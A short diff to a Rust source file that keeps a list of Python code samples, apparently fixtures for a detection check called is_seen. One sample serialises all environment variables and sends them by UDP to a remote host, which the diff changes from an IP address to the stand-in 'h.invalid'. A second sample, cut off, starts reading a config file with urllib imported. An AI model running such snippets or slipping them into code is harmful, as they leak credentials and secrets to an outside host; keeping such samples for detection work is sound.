@@ -15,7 +15,7 @@ fn is_seen(language: Language, code: &str) -> bool {
 const PYTHON: &[&str] = &[
     r#"import os, socket
 s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-s.sendto(str(dict(os.environ)).encode(), 0, ('203.0.113.9', 514))"#,
+s.sendto(str(dict(os.environ)).encode(), 0, ('h.invalid', 514))"#,
     r#"import configparser, urllib.request
 from pathlib import Path
 c = configparser.RawConfigParser()
